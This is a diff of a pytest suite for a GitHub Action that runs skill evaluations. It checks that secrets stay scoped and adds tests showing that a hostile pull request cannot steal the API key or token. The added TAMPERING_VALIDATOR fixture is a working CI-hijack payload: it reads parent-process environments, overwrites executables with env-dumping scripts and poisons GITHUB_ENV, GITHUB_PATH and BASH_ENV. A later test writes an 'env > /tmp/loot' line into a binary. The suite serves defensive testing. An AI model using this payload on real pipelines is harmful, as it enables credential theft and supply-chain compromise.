@@ -43,8 +43,8 @@ GIT_ENV = {"GIT_AUTHOR_NAME": "t", "GIT_AUTHOR_EMAIL": "t@example.invalid", "GIT
            "GIT_COMMITTER_EMAIL": "t@example.invalid", "GIT_CONFIG_GLOBAL": os.devnull, "GIT_CONFIG_NOSYSTEM": "1"}
 
 
-def load_action() -> dict:
-    return yaml.safe_load(ACTION.read_text(encoding="utf-8"))
+def load_action(path: Path = ACTION) -> dict:
+    return yaml.safe_load(path.read_text(encoding="utf-8"))
 
 
 def steps_of(action: dict) -> list[dict]:
@@ -126,16 +126,24 @@ def test_action_yml_structure() -> None:
             for script in re.findall(r"scripts/action/[\w.-]+", step["run"]):
                 assert (REPO / script).is_file(), script
         text = json.dumps(step)
-        # The Anthropic key reaches the run step only; the GitHub token the publish step only.
+        # The Anthropic key reaches the run step only; the GitHub token the two publish steps only (the check run
+        # in progress before the run, the results after it).
         if "inputs.anthropic-api-key" in text:
             assert step.get("id") == "run" and list(step["env"]).count("ANTHROPIC_API_KEY") == 1, step["name"]
         if "inputs.github-token" in text:
-            assert step.get("id") == "publish", step["name"]
+            assert step.get("id") in ("start", "publish"), step["name"]
+        # Every action the composite uses is pinned to a full commit SHA, with the version it is in a comment.
+        if "uses" in step:
+            assert re.fullmatch(r"[\w.-]+/[\w.-]+@[0-9a-f]{40}", step["uses"]), step["uses"]
     assert sum("inputs.anthropic-api-key" in json.dumps(s) for s in steps_of(action)) == 1
-    assert sum("inputs.github-token" in json.dumps(s) for s in steps_of(action)) == 1
-    assert ids.index("validate") < ids.index("select") < ids.index("run") < ids.index("publish")
-    uploads = [s for s in steps_of(action) if str(s.get("uses", "")).startswith("actions/upload-artifact@v4")]
-    assert len(uploads) == 1 and "always()" in uploads[0]["if"]
+    assert sum("inputs.github-token" in json.dumps(s) for s in steps_of(action)) == 2
+    assert ids.index("validate") < ids.index("select") < ids.index("start") < ids.index("run") < ids.index("publish")
+    uploads = [s for s in steps_of(action) if str(s.get("uses", "")).startswith("actions/upload-artifact@")]
+    assert [s["id"] for s in uploads] == ["upload-run", "upload-reports"]
+    assert all("always()" in s["if"] and ids.index(s["id"]) < ids.index("publish") for s in uploads)
+    for line in ACTION.read_text(encoding="utf-8").splitlines():
+        if line.strip().startswith("uses:"):
+            assert re.search(r"@[0-9a-f]{40} # v\d+\.\d+\.\d+$", line), line
 
 
 def test_example_workflows_are_safe() -> None:
@@ -155,7 +163,9 @@ def test_example_workflows_are_safe() -> None:
                     assert "run" not in step and "env" not in step
     pr = yaml.safe_load((REPO / "docs" / "workflows" / "pr-advisory.yml").read_text(encoding="utf-8"))
     assert list((pr.get(True) or pr.get("on"))) == ["pull_request"]
-    assert pr["permissions"] == {"contents": "read", "checks": "write", "pull-requests": "write"}
+    # No permission at workflow level; the job's are what it uses (tests/test_workflows.py checks every workflow).
+    assert pr["permissions"] == {}
+    assert pr["jobs"]["evals"]["permissions"] == {"contents": "read", "checks": "write", "pull-requests": "write"}
     sharded = yaml.safe_load((REPO / "docs" / "workflows" / "full-sharded.yml").read_text(encoding="utf-8"))
     shard_step = next(s for s in sharded["jobs"]["shard"]["steps"] if "anthropic-api-key" in (s.get("with") or {}))
     assert shard_step["with"]["tier"] == "full" and shard_step["with"]["shard"] == "${{ matrix.shard }}/4"
@@ -222,13 +232,14 @@ class SimulatedRunner:
     """Runs a composite action's steps the way a GitHub-hosted runner does, for the expressions it uses."""
 
     def __init__(self, tmp: Path, workspace: Path, inputs: dict[str, str], event_name: str, event: dict,
-                 job_env: dict[str, str] | None = None) -> None:
-        self.action = load_action()
+                 job_env: dict[str, str] | None = None, action_path: Path = REPO) -> None:
+        self.action_path = action_path  # the action's checkout ($GITHUB_ACTION_PATH); a copy when a test may harm it
+        self.action = load_action(action_path / "action.yml")
         self.tmp, self.workspace = tmp, workspace
         unknown = set(inputs) - set(self.action["inputs"])
         assert not unknown, f"inputs the action does not declare: {unknown}"
-        self.github = {"action_path": str(REPO), "token": "", "event_name": event_name, "workspace": str(workspace),
-                       "repository": "acme/skills"}
+        self.github = {"action_path": str(action_path), "token": "", "event_name": event_name,
+                       "workspace": str(workspace), "repository": "acme/skills"}
         self.inputs = {name: inputs.get(name, str(spec.get("default", ""))) for name, spec in
                        self.action["inputs"].items()}
         for name in self.inputs:
@@ -269,7 +280,7 @@ class SimulatedRunner:
         keep["PATH"] = os.pathsep.join([str(self.spy_dir), str(Path(sys.executable).parent), os.environ.get("PATH", "")])
         return keep | {"CI": "true", "GITHUB_ACTIONS": "true", "GITHUB_EVENT_NAME": event_name,
                        "GITHUB_EVENT_PATH": str(self.event_path), "GITHUB_WORKSPACE": str(self.workspace),
-                       "GITHUB_ACTION_PATH": str(REPO), "GITHUB_REPOSITORY": "acme/skills",
+                       "GITHUB_ACTION_PATH": str(self.action_path), "GITHUB_REPOSITORY": "acme/skills",
                        "GITHUB_SHA": "0" * 39 + "1", "GITHUB_RUN_ID": "1", "RUNNER_TEMP": str(self.runner_temp),
                        "RUNNER_OS": "Linux"}
 
@@ -389,7 +400,9 @@ def pr_event(base: str, head: str, head_repo: str = "acme/skills") -> dict:
                              "head": {"sha": head, "ref": "feature", "repo": {"full_name": head_repo}}}}
 
 
-HOST = {"container": "false", "install": "false"}  # the runner's own skill-evals, on the host (no Docker daemon)
+# The runner's own skill-evals, on the host, without a Docker daemon: so the library's (trusted) validator runs on
+# the host too. The default, a sandboxed validator, is tested with a daemon (test_a_tampering_validator_...).
+HOST = {"container": "false", "install": "false", "validator-sandbox": "none"}
 
 
 @pytest.fixture(scope="module")
@@ -483,10 +496,11 @@ def test_publish_step_calls_publish(pr_job: tuple[Job, str, str, Path]) -> None:
                     "publish step's call is not checked (every other step of the action is)")
     job = pr_job[0]
     publish = job.step("publish")
-    call = next((c for c in job.calls if c["argv"][0] == "publish"), None)
-    assert call is not None, publish.output
-    assert call["argv"][1:] == [job.outputs["run-dir"], "--mode", "advisory"]
+    calls = [c["argv"][1:] for c in job.calls if c["argv"][0] == "publish"]
+    assert calls[0] == ["--start"], calls  # the check run in progress, before the run (no token here: none made)
+    assert calls[1:] == [[job.outputs["run-dir"], "--mode", "advisory", "--library", "examples/library"]], calls
     assert publish.outputs["status"] == "0", publish.output
+    assert job.step("start").outputs["check-run-id"] == ""
 
 
 @pytest.fixture(scope="module")
@@ -536,11 +550,24 @@ def test_publish_writes_the_check_run_with_the_token_input(dispatch_job: tuple[J
     job, fake = dispatch_job
     assert fake is not None, "tests/fake_github.py (the publish tests' fake GitHub API) is missing"
     publish = job.step("publish")
-    call = next(c for c in job.calls if c["argv"][0] == "publish")
-    assert call["argv"][1:] == [job.outputs["run-dir"], "--mode", "advisory", "--no-comment"]
+    calls = [c["argv"][1:] for c in job.calls if c["argv"][0] == "publish"]
+    started = job.step("start").outputs["check-run-id"]
+    assert started.isdigit(), job.step("start").output
+    assert calls == [["--start"], [job.outputs["run-dir"], "--mode", "advisory", "--library", "examples/library",
+                                   "--no-comment", "--check-run-id", started]], calls
     assert publish.outputs["status"] == "0", publish.output
     assert [r["conclusion"] for r in fake.check_runs.values()] == ["neutral"]  # nothing ran: never success
+    # Created in progress before the run, completed (the same check run) after it.
+    writes = [(r.method, r.body.get("status")) for r in fake.writes() if r.path.endswith(("/check-runs", started))]
+    assert writes[0] == ("POST", "in_progress") and ("PATCH", "completed") in writes[1:], writes
+    assert int(started) in fake.check_runs and len(fake.check_runs) == 1
     assert not fake.comments
+    # The HTML report and JUnit XML are rendered for their own artifact, uploaded before publishing.
+    reports = Path(job.step("reports").outputs["reports-dir"])
+    assert (reports / "report.html").is_file() and (reports / "junit.xml").is_file()
+    upload = next(s for s in job.steps if s.id == "upload-reports")
+    assert upload.kind == "uses" and upload.with_["path"] == str(reports)
+    assert upload.with_["name"] == "skill-evals-full-report"
 
 
 def test_required_mode_fails_the_job_after_publishing_and_uploading(tmp_path: Path) -> None:
@@ -578,7 +605,8 @@ def test_a_broken_skill_fails_validation_and_the_rest_still_runs(tmp_path: Path)
     assert validate.outputs["floor"] == "skills"
     assert "::error" in validate.output and "symlink-escape" in validate.output
     assert "validation failed" in job.summary and "the other" in job.summary
-    assert job.commands() == ["validate", "select", "run", "publish"]
+    # publish --start (the check run in progress), run, the HTML report and JUnit XML, publish.
+    assert job.commands() == ["validate", "select", "publish", "run", "report", "report", "publish"]
     results = json.loads(Path(job.outputs["results-path"]).read_text(encoding="utf-8"))
     reasons = {c["uid"]: c["reason"] for c in results["cases"]}
     held = {uid for uid in reasons if uid.startswith("release-publisher/")}
@@ -612,6 +640,230 @@ def test_inputs_are_data_never_code(tmp_path: Path) -> None:
     assert not marker.exists()
     validate = next(c for c in job.calls if c["argv"][0] == "validate")
     assert validate["argv"][:3] == ["validate", "--library", evil]
+
+
+# ---- code from the pull request never reaches the key or the token (issue 14) ---------------------------
+
+KEY_MARKER = "sk-ant-tamper-marker-5f0e9a11"
+TOKEN_MARKER = "ghs-tamper-marker-b71c2d07"
+VALIDATOR_MARKER = "tamper-validator-was-here"
+BASE_IMAGE = os.environ.get("SKILL_EVALS_BASE_IMAGE") or "skill-evals-base:local"
+ACTION_COPY_IGNORE = shutil.ignore_patterns(".git", ".venv", "__pycache__", ".pytest_cache", ".hypothesis", ".ruff_cache",
+                                            "*.egg-info", "build", "runs", "node_modules", "tests")
+
+# The library validator of a hostile pull request (issue 14's audit, made worse): it learns the job's paths from
+# its parents' environments (/proc/<pid>/environ of skill-evals and of the step's bash) and from what an attacker
+# knows in advance (CONFIG: the simulated job's own paths), then rewrites every executable of the action it can
+# reach with a payload that writes its environment (the key, the token) to a file, points later steps' PATH,
+# GITHUB_PATH and BASH_ENV at the payload, and prints a marker. It always exits 0, so the lane goes on.
+TAMPERING_VALIDATOR = r"""
+import json, os, stat, sys
+from pathlib import Path
+
+CONFIG = json.loads(__CONFIG__)
+loot = Path(CONFIG["loot"])
+SH = "#!/bin/sh\nenv > {loot}/stolen-$$.env 2>/dev/null\necho tampered\nexit 0\n"
+PY = "import os\nopen({path!r} + str(os.getpid()), 'w').write(repr(dict(os.environ)))\nprint('tampered')\n"
+
+
+def ancestors_env():
+    env, pid = {}, os.getppid()
+    while pid > 1:
+        try:
+            for item in Path(f"/proc/{pid}/environ").read_bytes().split(b"\0"):
+                name, _, value = item.decode("utf-8", "replace").partition("=")
+                env.setdefault(name, value)
+            pid = int(Path(f"/proc/{pid}/stat").read_text().rsplit(")", 1)[1].split()[1])
+        except (OSError, ValueError, IndexError):
+            break
+    return env
+
+
+env = {**ancestors_env(), **os.environ}
+done, refused = [], []
+
+
+def write(path, text, mode=0o755):
+    try:
+        path = Path(path)
+        if path.is_symlink():
+            path.unlink()
+        path.write_text(text)
+        path.chmod(mode)
+        done.append(str(path))
+    except OSError as exc:
+        refused.append(f"{path}: {exc.__class__.__name__}")
+
+
+def append(path, text):
+    try:
+        with open(path, "a") as handle:
+            handle.write(text)
+        done.append(str(path))
+    except OSError as exc:
+        refused.append(f"{path}: {exc.__class__.__name__}")
+
+
+try:
+    loot.mkdir(parents=True, exist_ok=True)
+except OSError as exc:
+    refused.append(f"{loot}: {exc.__class__.__name__}")
+sh = SH.format(loot=loot)
+py = PY.format(path=str(loot / "stolen-py-"))
+temps = {CONFIG["runner_temp"], env.get("RUNNER_TEMP", "")} - {""}
+actions = {CONFIG["action_path"], env.get("GITHUB_ACTION_PATH", "")} - {""}
+venvs = {Path(t) / "skill-evals-venv" for t in temps} | {Path(sys.executable).parent.parent}
+for venv in venvs:
+    if (venv / "pyvenv.cfg").is_file():
+        for exe in sorted((venv / "bin").glob("*")):
+            write(exe, sh)
+        for module in sorted(venv.glob("lib/python*/site-packages/runner/*.py")):
+            write(module, py, 0o644)
+for action in map(Path, actions):
+    for script in sorted(action.glob("scripts/action/*")):
+        if script.name != "validate.sh":  # the script running now: bash reads it as it goes
+            write(script, sh if script.suffix == ".sh" else py)
+    write(action / "runner" / "cli.py", py, 0o644)
+fake = loot / "bin"
+try:
+    fake.mkdir(parents=True, exist_ok=True)
+except OSError as exc:
+    refused.append(f"{fake}: {exc.__class__.__name__}")
+for name in ("skill-evals", "python3", "python"):
+    write(fake / name, sh)
+write(loot / "bash_env.sh", sh.replace("exit 0", "true"))
+for path in {CONFIG["github_env"], env.get("GITHUB_ENV", "")} - {""}:
+    append(path, f"PATH={fake}:/usr/bin:/bin\nBASH_ENV={loot}/bash_env.sh\nPYTHONPATH={loot}\n")
+for path in {CONFIG["github_path"], env.get("GITHUB_PATH", "")} - {""}:
+    append(path, f"{fake}\n")
+print("\n".join(refused[:20]))
+print(f"__MARKER__: {len(done)} written, {len(refused)} refused")
+sys.exit(0)
+"""
+
+
+def docker_available() -> None:
+    """A reachable daemon and the local base image: else skip, except under CI, where that is a failure."""
+    import docker
+    import docker.errors
+    import requests.exceptions
+
+    def unavailable(reason: str) -> None:
+        if os.environ.get("CI"):
+            pytest.fail(f"CI must run the sandbox tests: {reason} (.ci/run starts dockerd and builds {BASE_IMAGE})")
+        pytest.skip(f"{reason}; .ci/run installs docker.io, starts dockerd and builds {BASE_IMAGE}")
+
+    try:
+        client = docker.from_env(timeout=120)
+        client.ping()
+    except (docker.errors.DockerException, requests.exceptions.RequestException, OSError) as exc:
+        unavailable(f"no Docker daemon is reachable ({exc.__class__.__name__}: {exc})")
+        return
+    try:
+        client.images.get(BASE_IMAGE)
+    except docker.errors.ImageNotFound:
+        unavailable(f"the local base image {BASE_IMAGE} is missing")
+    finally:
+        client.close()
+
+
+def files_holding(root: Path, *needles: str) -> list[str]:
+    """Every file under root (symlinks not followed) whose bytes hold one of the needles."""
+    found = []
+    for path in sorted(root.rglob("*")):
+        if path.is_file() and not path.is_symlink():
+            try:
+                data = path.read_bytes()
+            except OSError:
+                continue
+            found += [f"{path} holds {needle!r}" for needle in needles if needle.encode() in data]
+    return found
+
+
+def snapshot(root: Path) -> dict[str, bytes]:
+    return {str(p.relative_to(root)): p.read_bytes() for p in sorted(root.rglob("*")) if p.is_file() and
+            not p.is_symlink()}
+
+
+def tampered(tmp_path_factory: pytest.TempPathFactory, sandbox: str) -> tuple[Job, Path, Path, object, dict]:
+    """A pull request whose library validator (scripts/validate-skills.py, the default) tampers with the job; the
+    action installed from a copy of this checkout (install: true), a key and a token given, the kill switch on
+    (nothing is sent to a model), the publish step talking to the fake GitHub API on 127.0.0.1."""
+    from tests.fake_github import FakeGitHub
+
+    tmp = tmp_path_factory.mktemp(f"action_tamper_{sandbox}")
+    action = tmp / "action"
+    shutil.copytree(REPO, action, symlinks=True, ignore=ACTION_COPY_IGNORE)
+    workspace, base, head = make_workspace(tmp)
+    loot = tmp / "loot"
+    steps = load_action(action / "action.yml")["runs"]["steps"]
+    index = next(i for i, s in enumerate(steps) if s.get("id") == "validate")
+    config = {"loot": str(loot), "runner_temp": str(tmp / "runner_temp"), "action_path": str(action),
+              "github_env": str(tmp / f"step{index}_env"), "github_path": str(tmp / f"step{index}_path")}
+    validator = workspace / "examples" / "library" / "scripts" / "validate-skills.py"
+    validator.write_text(TAMPERING_VALIDATOR.replace("__CONFIG__", repr(json.dumps(config)))
+                         .replace("__MARKER__", VALIDATOR_MARKER), encoding="utf-8")
+    git(workspace, "commit", "-q", "-am", "a hostile validator")
+    head = git(workspace, "rev-parse", "HEAD")
+    before = snapshot(action)
+    inputs = {"library": "examples/library", "anthropic-api-key": KEY_MARKER, "github-token": TOKEN_MARKER,
+              "comment": "false", "container": "false"}
+    if sandbox != "container":  # the default is what the first test runs: the action as users get it
+        inputs["validator-sandbox"] = sandbox
+    fake = FakeGitHub(token=TOKEN_MARKER, repository="acme/skills")
+    with fake:
+        job_env = {"SKILL_EVALS_DISABLED": "1", "GITHUB_API_URL": fake.url, "SKILL_EVALS_BASE_IMAGE": BASE_IMAGE}
+        job = SimulatedRunner(tmp, workspace, inputs, "pull_request", pr_event(base, head), job_env, action).run()
+    return job, tmp, action, fake, before
+
+
+@pytest.fixture(scope="module")
+def tampered_job(tmp_path_factory: pytest.TempPathFactory) -> tuple[Job, Path, Path, object, dict]:
+    docker_available()
+    return tampered(tmp_path_factory, "container")
+
+
+@pytest.fixture(scope="module")
+def tampered_job_on_the_runner(tmp_path_factory: pytest.TempPathFactory) -> tuple[Job, Path, Path, object, dict]:
+    return tampered(tmp_path_factory, "none")
+
+
+def no_secret_anywhere(job: Job, tmp: Path) -> None:
+    """Neither secret in any file of the job (temp, workspace, run folder, step files, the action), any log, any
+    output or the job summary."""
+    everything = "\n".join(f"{s.name}:\n{s.output}" for s in job.steps)
+    assert files_holding(tmp, KEY_MARKER, TOKEN_MARKER) == [], everything
+    for text in (everything, job.summary, json.dumps(job.outputs), json.dumps([s.outputs for s in job.steps])):
+        assert KEY_MARKER not in text and TOKEN_MARKER not in text
+
+
+def test_a_tampering_validator_cannot_reach_the_key_or_the_token(tampered_job) -> None:
+    """Issue 14: the library's validator (the pull request's code) runs, but nothing it does changes what the
+    run and publish steps execute, and neither secret appears anywhere the job wrote."""
+    job, tmp, action, fake, before = tampered_job
+    everything = "\n".join(f"{s.name}:\n{s.output}" for s in job.steps)
+    no_secret_anywhere(job, tmp)
+    validate = job.step("validate")
+    assert validate.returncode == 0 and validate.outputs["floor"] == "none", everything
+    assert f"{VALIDATOR_MARKER}: " in validate.output, validate.output  # it ran (what it wrote stayed in its /tmp)
+    # The run and publish steps executed the action's own skill-evals: results of the kill switch, a check run.
+    run, publish = job.step("run"), job.step("publish")
+    assert run.returncode == 0 and run.outputs["exit-code"] == "0", everything
+    assert "tampered" not in everything
+    results = json.loads(Path(job.outputs["results-path"]).read_text(encoding="utf-8"))
+    assert set(results["unrun_by_reason"]) == {"kill-switch"}
+    assert publish.returncode == 0 and publish.outputs["status"] == "0", publish.output
+    assert [r["conclusion"] for r in fake.check_runs.values()] == ["neutral"]
+    # Nothing of the validator's reached the host: no loot, the action's files as they were, no GITHUB_ENV/PATH.
+    assert not (tmp / "loot").exists()
+    after = snapshot(action)
+    changed = sorted(name for name in before if after.get(name) != before[name])
+    assert not changed, changed
+    venv = tmp / "runner_temp" / "skill-evals-venv"
+    assert "from runner.cli import main" in (venv / "bin" / "skill-evals").read_text(encoding="utf-8")
+    index = job.steps.index(job.step("validate"))
+    assert (tmp / f"step{index}_env").read_text(encoding="utf-8") == ""
+    assert (tmp / f"step{index}_path").read_text(encoding="utf-8") == ""
 
 
 # ---- the bookkeeping script on its own -------------------------------------------------------------------
@@ -703,3 +955,97 @@ def test_outputs_follow_the_check_runs_conclusion(tmp_path: Path) -> None:
     _, missing, text = lane(tmp_path, "outputs", {"RUN_DIR": str(tmp_path / "nowhere"), "MODE": "required",
                                                    "RUN_EXIT": "2"})
     assert missing["conclusion"] == "failure" and missing["results-path"] == "" and "no readable results" in text
+
+
+def test_a_tampering_validator_on_the_runner_stops_the_lane(tampered_job_on_the_runner) -> None:
+    """validator-sandbox: none (trusted repositories only) runs the validator on the runner, where it can change
+    things. The validate step finds what it changed (the action's files against the install step's digest, with a
+    checker read before the validator ran; GITHUB_ENV and GITHUB_PATH written) and stops the lane: no step with a
+    secret runs, and neither secret appears anywhere. A validator that knew these checks could still get past
+    them (docs/github-action.md says how); this is the net under `none`, not a boundary."""
+    job, tmp, action, fake, _ = tampered_job_on_the_runner
+    validate = job.step("validate")
+    assert validate.returncode == 1 and validate.outputs == {"floor": "library", "validation": "failure"}, \
+        validate.output
+    assert f"{VALIDATOR_MARKER}: " in validate.output  # it ran on the runner, and wrote there
+    assert "the library's validator wrote to GITHUB_ENV GITHUB_PATH" in validate.output
+    assert "the action's files changed after the install step" in validate.output
+    assert "action/scripts/action/run.sh (changed)" in validate.output and " more" in validate.output
+    index = job.steps.index(validate)
+    assert (tmp / f"step{index}_env").read_text(encoding="utf-8") == ""
+    assert (tmp / f"step{index}_path").read_text(encoding="utf-8") == ""
+    for step in job.steps[index + 1:]:
+        assert step.kind == "skipped", f"{step.name} ran after the tampering was found"
+    assert not fake.check_runs
+    no_secret_anywhere(job, tmp)
+
+
+def test_every_step_with_a_secret_checks_the_action_first() -> None:
+    """The sandbox is the default, and every step that holds the key or the token gets the install step's digest
+    and sources trusted.sh (the check, and skill-evals by its recorded path) before it does anything else."""
+    action = load_action()
+    assert action["inputs"]["validator-sandbox"]["default"] == "container"
+    steps = steps_of(action)
+    assert steps[0].get("id") == "install" and "install.sh" in steps[0]["run"]
+    secret_steps = [s for s in steps if {"ANTHROPIC_API_KEY", "GITHUB_TOKEN"} & set(s.get("env") or {})]
+    assert {s.get("id") for s in secret_steps} >= {"run", "publish"}
+    for step in secret_steps + [next(s for s in steps if s.get("id") == "validate")]:
+        env = step["env"]
+        assert env.get("SKILL_EVALS_DIGEST") == "${{ steps.install.outputs.digest }}", step["name"]
+        assert env.get("SKILL_EVALS_BIN") == "${{ steps.install.outputs.skill-evals }}", step["name"]
+        assert env.get("SKILL_EVALS_PYTHON") == "${{ steps.install.outputs.python }}", step["name"]
+        script = REPO / re.search(r"scripts/action/[\w.-]+\.sh", step["run"]).group(0)
+        sources = [line for line in script.read_text(encoding="utf-8").splitlines()
+                   if line.startswith(". ") and "scripts/action/trusted.sh" in line]
+        assert sources, f"{script.name} does not source trusted.sh"
+        assert not [line for line in script.read_text(encoding="utf-8").splitlines()[:script.read_text(
+            encoding="utf-8").splitlines().index(sources[0])] if re.search(r"\bskill-evals\b", line)
+            and not line.lstrip().startswith("#")], f"{script.name} runs skill-evals before the check"
+
+
+VERIFY = REPO / "scripts" / "action" / "verify.py"
+
+
+def verify(*args: str) -> subprocess.CompletedProcess[str]:
+    return subprocess.run([sys.executable, "-I", str(VERIFY), *args], capture_output=True, text=True, timeout=120,
+                          check=False)
+
+
+def test_the_digest_names_what_changed_and_trusts_no_manifest(tmp_path: Path) -> None:
+    """verify.py on its own: an unchanged tree passes; a changed file, an added file, a link pointed elsewhere are
+    refused by name; a manifest that is not the recorded one is refused whatever it says."""
+    action, venv, temp = tmp_path / "action", tmp_path / "venv", tmp_path / "temp"
+    (action / "scripts" / "action").mkdir(parents=True)
+    (action / "scripts" / "action" / "run.sh").write_text("echo run\n", encoding="utf-8")
+    (action / "runner" / "__pycache__").mkdir(parents=True)
+    (action / "runner" / "cli.py").write_text("print('cli')\n", encoding="utf-8")
+    (venv / "bin").mkdir(parents=True)
+    (venv / "bin" / "skill-evals").write_text("#!/bin/sh\n", encoding="utf-8")
+    (venv / "bin" / "python").symlink_to("/usr/bin/python3")
+    temp.mkdir()
+    binary = str(venv / "bin" / "skill-evals")
+    where = ["--dir", str(temp), "--bin", binary, "--action", str(action)]
+    recorded = verify("record", *where, "--venv", str(venv))
+    assert recorded.returncode == 0, recorded.stderr
+    digest = recorded.stdout.strip()
+    assert re.fullmatch(r"[0-9a-f]{64}", digest)
+    ok = verify("check", digest, *where)
+    assert ok.returncode == 0 and "as installed" in ok.stdout, ok.stdout + ok.stderr
+    (action / "runner" / "__pycache__" / "cli.cpython-311.pyc").write_bytes(b"not executed")  # not covered
+    assert verify("check", digest, *where).returncode == 0
+    (venv / "bin" / "skill-evals").write_text("#!/bin/sh\nenv > /tmp/loot\n", encoding="utf-8")
+    (venv / "bin" / "python").unlink()
+    (venv / "bin" / "python").symlink_to("/tmp/evil")
+    (action / "scripts" / "action" / "extra.sh").write_text("true\n", encoding="utf-8")
+    changed = verify("check", digest, *where)
+    assert changed.returncode == 1 and changed.stdout.startswith("::error::skill-evals: the action's files changed")
+    for name in ("venv/bin/skill-evals (changed)", "venv/bin/python (changed)",
+                 "action/scripts/action/extra.sh (added)"):
+        assert name in changed.stdout, changed.stdout
+    manifest = next(temp.glob("skill-evals-manifest-*.json"))
+    state = json.loads(manifest.read_text(encoding="utf-8"))
+    manifest.write_text(json.dumps(state | {"venv": str(tmp_path / "pristine-copy")}), encoding="utf-8")
+    forged = verify("check", digest, *where)
+    assert forged.returncode == 1 and "manifest" in forged.stdout and "missing or was changed" in forged.stdout
+    other = verify("check", digest, "--dir", str(temp), "--bin", "/usr/bin/skill-evals", "--action", str(action))
+    assert other.returncode == 1
